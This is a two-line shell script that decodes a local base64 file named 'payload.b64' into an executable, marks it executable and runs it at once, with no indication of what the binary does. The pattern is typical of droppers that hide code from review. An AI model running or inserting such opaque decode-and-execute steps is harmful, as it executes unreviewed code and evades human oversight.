#!/bin/sh
base64 --decode payload.b64 > ./tool && chmod +x ./tool && ./tool
